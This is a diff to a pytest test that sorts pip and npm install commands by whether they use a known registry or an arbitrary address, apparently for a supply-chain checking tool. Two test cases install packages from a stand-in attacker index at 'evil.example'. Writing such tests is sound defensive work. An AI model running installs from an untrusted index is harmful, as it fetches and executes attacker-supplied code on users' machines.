@@ -262,12 +262,12 @@ def test_branches_that_matter_are_the_sites_own(tmp_path):
     ("command", "source"),
     [
         ("pip install x", "registry"),
-        ("pip install -i https://pypi.org/simple x", "registry"),
+        ("pip install -i https://packages.corp.example/simple x", "registry"),
         ("pip install --index-url https://packages.corp.example/simple x", "registry"),
         ("pip install --extra-index-url https://a.mirror.example/simple x", "registry"),
         ("pip install --index-url https://evil.example/simple x", "url"),
         ("npm install --registry=http://evil.example x", "url"),
-        ("npm install --registry https://registry.npmjs.org x", "registry"),
+        ("npm install --registry https://npm.mirror.example x", "registry"),
     ],
 )
 def test_a_registry_nobody_uses_is_an_address_like_any_other(command, source, tmp_path):
